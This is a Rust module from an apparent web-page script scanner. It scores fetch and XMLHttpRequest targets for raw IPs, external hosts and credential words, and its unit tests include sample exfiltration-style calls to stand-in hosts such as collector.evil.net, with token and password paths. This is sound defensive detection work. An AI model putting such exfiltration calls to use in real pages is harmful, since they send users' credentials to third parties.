//! Network-call check used by the script pattern detector.
//!
//! Unlike the fixed-score heuristics, this re-parses the script for
//! `fetch(...)` and `xhr.open(method, ...)` targets and scores each one.

use once_cell::sync::Lazy;
use regex::Regex;
use url::{Host, Url};

use super::script_patterns::PatternMatch;
use crate::page::PageSnapshot;
use crate::rules::{Evidence, Severity};

pub const RAW_IP_SCORE: u32 = 35;
pub const EXTERNAL_TARGET_SCORE: u32 = 18;
pub const CREDENTIAL_URL_SCORE: u32 = 25;
/// Cap on this check's contribution, however many targets match.
pub const NETWORK_SCORE_CAP: u32 = 50;

static NETWORK_TRIGGER_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?i)XMLHttpRequest|fetch\s*\(").unwrap());

static TARGET_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    vec![
        Regex::new(r#"fetch\s*\(\s*['"`]([^'"`]+)['"`]"#).unwrap(),
        Regex::new(r#"\.open\s*\(\s*['"`]\w+['"`]\s*,\s*['"`]([^'"`]+)['"`]"#).unwrap(),
    ]
});

static RAW_IP_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}").unwrap());

static CREDENTIAL_RE: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(?i)password|passwd|pwd|secret|token|apikey|auth|credit|card").unwrap()
});

/// API hosts that are common enough to not count as external exfiltration.
const TRUSTED_API_DOMAINS: &[&str] = &[
    "googleapis.com",
    "gstatic.com",
    "cloudflare.com",
    "amazonaws.com",
    "azure.com",
    "firebase.com",
    "stripe.com",
    "paypal.com",
    "twitter.com",
    "facebook.com",
];

/// Score network targets in `content`. Returns `None` when the script
/// makes no suspicious calls.
pub fn check_network_targets(content: &str, page: &PageSnapshot) -> Option<PatternMatch> {
    if !NETWORK_TRIGGER_RE.is_match(content) {
        return None;
    }

    let mut score = 0u32;
    let mut evidence = Evidence::default();

    for pattern in TARGET_PATTERNS.iter() {
        for cap in pattern.captures_iter(content) {
            let target = match cap.get(1) {
                Some(m) => m.as_str(),
                None => continue,
            };
            if target.is_empty() || target.starts_with('/') || target.starts_with('.') {
                continue;
            }

            if is_raw_ip_target(target) {
                score += RAW_IP_SCORE;
                evidence.targets.push(target.to_string());
                evidence
                    .reasons
                    .push(format!("Direct request to an IP address: {target}"));
            } else if page.is_external(target) && !is_trusted_api(target) {
                score += EXTERNAL_TARGET_SCORE;
                evidence.targets.push(target.to_string());
                evidence
                    .reasons
                    .push(format!("Request to external site: {}", truncate(target, 50)));
            }

            if CREDENTIAL_RE.is_match(target) {
                score += CREDENTIAL_URL_SCORE;
                evidence
                    .reasons
                    .push("URL may carry sensitive credentials".into());
            }
        }
    }

    if score == 0 {
        return None;
    }

    Some(PatternMatch {
        rule_id: "network-targets",
        score: score.min(NETWORK_SCORE_CAP),
        severity: if score >= 30 {
            Severity::High
        } else {
            Severity::Medium
        },
        reason: "Suspicious outbound communication detected".into(),
        snippet: None,
        details: Some(evidence),
    })
}

/// Absolute URL with an IP literal host, or a scheme-less `a.b.c.d` prefix.
fn is_raw_ip_target(target: &str) -> bool {
    if RAW_IP_RE.is_match(target) {
        return true;
    }
    Url::parse(target)
        .map(|u| matches!(u.host(), Some(Host::Ipv4(_) | Host::Ipv6(_))))
        .unwrap_or(false)
}

fn is_trusted_api(url: &str) -> bool {
    TRUSTED_API_DOMAINS.iter().any(|d| url.contains(d))
}

fn truncate(url: &str, max_chars: usize) -> String {
    if url.chars().count() > max_chars {
        let cut: String = url.chars().take(max_chars).collect();
        format!("{cut}...")
    } else {
        url.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn page() -> PageSnapshot {
        PageSnapshot::new("https://bank.example.com/login")
    }

    #[test]
    fn raw_ip_target_scores_35() {
        let m = check_network_targets("fetch('10.0.0.5/collect')", &page()).unwrap();
        assert_eq!(m.score, 35);
        assert_eq!(m.severity, Severity::High);
        assert_eq!(m.details.unwrap().targets, vec!["10.0.0.5/collect"]);
    }

    #[test]
    fn absolute_ip_urls_score_as_raw_ip() {
        let m = check_network_targets("fetch('http://203.0.113.5/collect')", &page()).unwrap();
        assert_eq!(m.score, RAW_IP_SCORE);
        let reasons = m.details.unwrap().reasons;
        assert_eq!(
            reasons,
            vec!["Direct request to an IP address: http://203.0.113.5/collect"]
        );

        let v6 = "var x = new XMLHttpRequest(); x.open('GET', 'https://[2001:db8::1]/beacon');";
        assert_eq!(check_network_targets(v6, &page()).unwrap().score, RAW_IP_SCORE);
    }

    #[test]
    fn external_target_scores_18() {
        let m = check_network_targets("fetch(\"https://collector.evil.net/x\")", &page()).unwrap();
        assert_eq!(m.score, 18);
        assert_eq!(m.severity, Severity::Medium);
    }

    #[test]
    fn credential_keywords_add_25_and_total_is_capped() {
        let content = "fetch('https://a.evil.net/?token=1'); \
                       var x = new XMLHttpRequest(); x.open('POST', 'https://b.evil.net/password');";
        let m = check_network_targets(content, &page()).unwrap();
        // (18 + 25) * 2 = 86 before the cap
        assert_eq!(m.score, NETWORK_SCORE_CAP);
        assert_eq!(m.severity, Severity::High);
    }

    #[test]
    fn relative_and_same_host_targets_ignored() {
        let content = "fetch('/api/items'); fetch('./local'); fetch('https://bank.example.com/api');";
        assert!(check_network_targets(content, &page()).is_none());
    }

    #[test]
    fn trusted_api_not_flagged() {
        let content = "fetch('https://maps.googleapis.com/maps/api/js')";
        assert!(check_network_targets(content, &page()).is_none());
    }

    #[test]
    fn no_network_code_is_none() {
        assert!(check_network_targets("console.log('hi')", &page()).is_none());
    }
}
